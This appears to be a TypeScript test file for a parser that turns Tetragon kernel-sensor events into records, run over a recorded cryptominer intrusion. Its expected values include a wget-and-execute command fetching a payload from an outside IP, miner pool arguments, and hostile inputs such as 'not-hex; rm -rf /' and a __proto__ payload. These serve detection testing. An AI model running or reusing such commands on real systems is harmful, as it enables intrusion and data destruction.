import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { RawEvent } from '../event.ts';
import type { MapResult } from './ingest-sensor.ts';
import { mapTetragonEvent, splitTetragonArguments } from './tetragon-json.ts';

const now = Date.UTC(2026, 2, 14, 12, 0, 0);
const containerId = '4f2a9c1e7b3d58a06e91c2d4b7f80a3e5d6c9b1a2f4e7d8c0b3a6e9f1d2c4b5a';
const fixture = readFileSync(new URL('../../../test/fixtures/traces/tetragon-miner-drop.jsonl', import.meta.url), 'utf8')
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => JSON.parse(line) as unknown);

function eventOf(result: MapResult): RawEvent {
  assert.ok('events' in result, `expected an event, got ${JSON.stringify(result)}`);
  assert.equal(result.events.length, 1);
  return result.events[0] as RawEvent;
}

function kprobe(functionName: string, args: unknown[], extra: Record<string, unknown> = {}): unknown {
  return { process_kprobe: { process: { pid: 4242, uid: 0, binary: '/usr/bin/curl' }, function_name: functionName, args, ...extra }, node_name: 'n1', time: '2026-03-14T09:00:00Z' };
}

describe('mapTetragonEvent on a recorded miner drop', () => {
  const results = fixture.map((json) => mapTetragonEvent(json, now));

  it('maps the exec with the full container id, the pod, the parent and quoted arguments', () => {
    assert.deepEqual(eventOf(results[0]!), {
      at: Date.UTC(2026, 2, 14, 9, 26, 53, 589),
      sensor: 'tetragon',
      comm: '/bin/busybox',
      pid: 48213,
      containerId,
      pod: { namespace: 'shop', name: 'api-7d9f8b6c5-x2lqp', container: 'api' },
      type: 'exec',
      ppid: 48201,
      uid: 0,
      exe: '/bin/busybox',
      argv: ['/bin/busybox', '-c', 'wget -q -O /tmp/.x http://198.51.100.23/x && /tmp/.x'],
      parentExe: '/usr/bin/runc',
    });
  });

  it('maps a security_file_permission write and skips a read', () => {
    const write = eventOf(results[1]!);
    assert.deepEqual(write.type === 'file-write' && [write.path, write.pid], ['/tmp/.x', 48213]);
    assert.deepEqual(results[2], { skipped: 'file accessed without write permission' });
  });

  it('marks an exec of a deleted or memfd binary, and leaves sha256 unset', () => {
    const exec = eventOf(results[3]!);
    assert.ok(exec.type === 'exec');
    assert.equal(exec.exeDeleted, true);
    assert.equal(exec.sha256, undefined);
    assert.deepEqual(exec.argv, ['/tmp/.x', '-o', 'pool.example.net:3333', '-u', '4AdUndX', '--donate-level', '1']);
  });

  it('maps tcp_connect to the destination', () => {
    const event = eventOf(results[4]!);
    assert.deepEqual(event.type === 'connect' && [event.protocol, event.family, event.address, event.port], ['tcp', 4, '198.51.100.23', 3333]);
  });

  it('maps inet_csk_listen_start to the local address', () => {
    const event = eventOf(results[5]!);
    assert.deepEqual(event.type === 'listen' && [event.protocol, event.family, event.address, event.port], ['tcp', 6, '::', 4444]);
  });

  it('skips tracepoints, naming them', () => {
    assert.deepEqual(results[6], { skipped: 'process_tracepoint "raw_syscalls/sys_enter" is not mapped' });
  });

  it('maps exits: no exit code for a signal, the status otherwise', () => {
    const killed = eventOf(results[7]!);
    assert.deepEqual(killed.type === 'exit' && [killed.pid, killed.exitCode], [48244, undefined]);
    const exited = eventOf(results[8]!);
    assert.deepEqual(exited.type === 'exit' && exited.exitCode, 137);
  });

  it('maps a host exec without container or pod, with its namespaces', () => {
    const event = eventOf(results[9]!);
    assert.equal(event.containerId, undefined);
    assert.equal(event.pod, undefined);
    assert.deepEqual([event.mntns, event.pidns], [4026531841, 4026531836]);
    assert.deepEqual(event.type === 'exec' && [event.uid, event.ppid, event.parentExe], [1000, 90002, '/usr/bin/bash']);
  });
});

describe('splitTetragonArguments', () => {
  it('splits on spaces and keeps quoted arguments whole', () => {
    assert.deepEqual(splitTetragonArguments('-c "echo hi there" --x'), ['-c', 'echo hi there', '--x']);
    assert.deepEqual(splitTetragonArguments(' "a b"'), ['a b']);
    assert.deepEqual(splitTetragonArguments('a  b'), ['a', 'b']);
  });

  it('keeps quotes that do not delimit an argument (Tetragon does not escape them)', () => {
    assert.deepEqual(splitTetragonArguments('say "hi'), ['say', '"hi']);
    assert.deepEqual(splitTetragonArguments('"'), ['"']);
    assert.deepEqual(splitTetragonArguments('"say "x" now"'), ['say "x', 'now"']);
  });
});

describe('mapTetragonEvent on other kprobes', () => {
  it('uses docker:// and cri-o:// ids and the docker prefix when there is no pod', () => {
    const withPrefix = { process_exit: { process: { pid: 9, pod: { namespace: 'a', name: 'b', container: { id: `cri-o://${containerId}` } } } } };
    assert.equal(eventOf(mapTetragonEvent(withPrefix, now)).containerId, containerId);
    const dockerOnly = { process_exit: { process: { pid: 9, docker: containerId.slice(0, 31) } } };
    assert.equal(eventOf(mapTetragonEvent(dockerOnly, now)).containerId, containerId.slice(0, 31));
  });

  it('maps inet_csk_accept from its returned socket', () => {
    const sock = { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', daddr: '203.0.113.9', sport: 8080, dport: 51522 };
    const event = eventOf(mapTetragonEvent(kprobe('inet_csk_accept', [], { return: { sock_arg: sock } }), now));
    assert.deepEqual(event.type === 'accept' && [event.address, event.port, event.localPort], ['203.0.113.9', 51522, 8080]);
  });

  it('maps appends as writes and skips writes the kernel refused', () => {
    const append = eventOf(mapTetragonEvent(kprobe('security_file_permission', [{ file_arg: { path: '/var/log/x' } }, { int_arg: 8 }]), now));
    assert.equal(append.type, 'file-write');
    const refused = mapTetragonEvent(kprobe('security_file_permission', [{ file_arg: { path: '/etc/passwd' } }, { int_arg: 2 }], { return: { int_arg: -13 } }), now);
    assert.deepEqual(refused, { skipped: 'file write refused by the kernel' });
  });

  it('maps truncation as a write', () => {
    const event = eventOf(mapTetragonEvent(kprobe('security_path_truncate', [{ path_arg: { path: '/etc/passwd' } }]), now));
    assert.deepEqual(event.type === 'file-write' && event.path, '/etc/passwd');
  });

  it('skips fd_install and security_file_open, which carry no access mask', () => {
    const result = mapTetragonEvent(kprobe('fd_install', [{ int_arg: 3 }, { file_arg: { path: '/etc/shadow' } }]), now);
    assert.ok('skipped' in result);
    assert.match(result.skipped, /without write flags/);
  });

  it('skips kprobes and event kinds it does not map', () => {
    assert.deepEqual(mapTetragonEvent(kprobe('sys_ptrace', []), now), { skipped: 'kprobe "sys_ptrace" is not mapped' });
    assert.deepEqual(mapTetragonEvent({ process_lsm: { process: { pid: 1 } }, node_name: 'n1' }, now), { skipped: 'process_lsm is not mapped' });
    assert.ok('skipped' in mapTetragonEvent({ process_future_thing: {}, node_name: 'n1', time: '2026-03-14T09:00:00Z' }, now));
  });

  it('skips a UDP socket on tcp hooks only when the socket says so', () => {
    const result = mapTetragonEvent(kprobe('tcp_connect', [{ sock_arg: { protocol: 'IPPROTO_SCTP', daddr: '10.0.0.1', dport: 80 } }]), now);
    assert.ok('skipped' in result);
  });
});

describe('mapTetragonEvent on hostile input', () => {
  const errorOf = (json: unknown): string => {
    const result = mapTetragonEvent(json, now);
    assert.ok('error' in result, `expected an error, got ${JSON.stringify(result)}`);
    return result.error;
  };

  it('rejects values that are not Tetragon events', () => {
    for (const value of [null, 7, 'process_exec', [], [{ process_exec: {} }]]) assert.match(errorOf(value), /JSON object/);
    assert.match(errorOf({ hello: 'world' }), /not a Tetragon event/);
    assert.match(errorOf({ process_exec: 'yes' }), /process_exec is the string/);
    assert.match(errorOf({ process_exec: { parent: {} } }), /process_exec\.process is missing/);
  });

  it('rejects a missing, string, negative or huge pid', () => {
    assert.match(errorOf({ process_exit: { process: { binary: '/bin/sh' } } }), /process\.pid is missing/);
    assert.match(errorOf({ process_exit: { process: { pid: '51583' } } }), /process\.pid is the string "51583"/);
    assert.match(errorOf({ process_exit: { process: { pid: -4 } } }), /outside/);
    assert.match(errorOf({ process_exit: { process: { pid: 1e12 } } }), /outside/);
  });

  it('rejects ports out of range, addresses that are not IPs and odd families', () => {
    assert.match(errorOf(kprobe('tcp_connect', [{ sock_arg: { daddr: '10.0.0.1', dport: 65536 } }])), /sock_arg\.dport 65536 is outside/);
    assert.match(errorOf(kprobe('tcp_connect', [{ sock_arg: { daddr: '10.0.0.1', dport: '443' } }])), /not an integer/);
    assert.match(errorOf(kprobe('tcp_connect', [{ sock_arg: { daddr: 'evil.example', dport: 443 } }])), /not an IP address/);
    assert.match(errorOf(kprobe('tcp_connect', [{ sock_arg: { family: 'AF_UNIX', daddr: '10.0.0.1', dport: 443 } }])), /AF_UNIX/);
  });

  it('rejects malformed kprobe arguments', () => {
    assert.match(errorOf(kprobe('tcp_connect', { sock_arg: {} } as unknown as unknown[])), /args is an object, not an array/);
    assert.match(errorOf(kprobe('tcp_connect', [42])), /args\[0\] is the number 42/);
    assert.match(errorOf(kprobe('tcp_connect', Array.from({ length: 100 }, () => ({ int_arg: 1 })))), /more than 64/);
    assert.match(errorOf(kprobe('security_file_permission', [{ file_arg: { path: '/x' } }, { int_arg: -2 }])), /outside/);
  });

  it('rejects container ids that are not ids and times that are not times', () => {
    assert.match(errorOf({ process_exit: { process: { pid: 9, docker: 'not-hex; rm -rf /' } } }), /not a container id/);
    assert.match(errorOf({ process_exit: { process: { pid: 9 } }, time: 'yesterday' }), /RFC 3339/);
  });

  it('never reads through __proto__', () => {
    const line = '{"__proto__":{"process_exec":{"process":{"pid":1,"binary":"/bin/sh"}}},"node_name":"n1"}';
    assert.deepEqual(mapTetragonEvent(JSON.parse(line), now), { skipped: 'a Tetragon event of a type nomine does not know' });
    const proc = '{"process_exit":{"process":{"__proto__":{"pid":5}}}}';
    assert.match(errorOf(JSON.parse(proc)), /process\.pid is missing/);
    assert.equal(({} as Record<string, unknown>)['process_exec'], undefined);
  });
});
